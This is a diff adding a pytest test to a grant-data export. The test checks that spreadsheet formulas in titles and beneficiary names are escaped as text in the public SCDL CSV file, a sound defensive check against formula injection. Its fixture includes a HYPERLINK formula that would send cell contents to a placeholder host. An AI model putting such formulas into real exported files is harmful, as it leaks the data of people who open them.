@@ -207,3 +207,20 @@ def test_admin_action_downloads_the_file(client, call, laureates):
         reverse("admin:projects_call_changelist"), {"action": "download_scdl", "_selected_action": [call.pk]}
     )
     assert len(scdl_rows(response.content)) == 6
+
+
+def test_a_title_written_as_a_formula_stays_text_in_the_public_file(call, approver, tmp_path):
+    funders_with_sirets()
+    laureate(
+        by=approver,
+        title='=HYPERLINK("http://example.org/vol?d="&A1;"Cliquez")',
+        applicant=ApplicantFactory(legal_name="@SOMME(1+1)"),
+    )
+    content = write_scdl(call)
+    rows = scdl_rows(content)
+    assert {row["objet"] for row in rows} == {'\'=HYPERLINK("http://example.org/vol?d="&A1;"Cliquez")'}
+    assert {row["nomBeneficiaire"] for row in rows} == {"'@SOMME(1+1)"}
+    path = tmp_path / "subventions.csv"
+    path.write_bytes(content)
+    schema = Schema.from_descriptor(json.loads(schema_path().read_text(encoding="utf-8")))
+    assert validate(Resource(path=path.name, basepath=str(tmp_path), schema=schema)).valid
